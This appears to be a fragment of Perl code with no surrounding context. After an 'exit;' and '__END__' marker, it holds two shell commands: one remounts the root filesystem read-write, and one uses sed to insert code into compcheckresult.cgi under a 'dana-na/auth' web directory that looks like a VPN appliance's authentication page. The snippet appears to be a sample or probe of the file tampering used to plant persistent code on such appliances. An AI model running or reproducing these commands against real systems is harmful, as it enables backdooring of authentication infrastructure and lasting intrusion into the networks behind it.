exit;
__END__
system("mount -o remount,rw /dev/root /");
system("sed -i '/use DSSafe/a print 1;' /tmp/data/root/home/webserver/htdocs/dana-na/auth/compcheckresult.cgi");
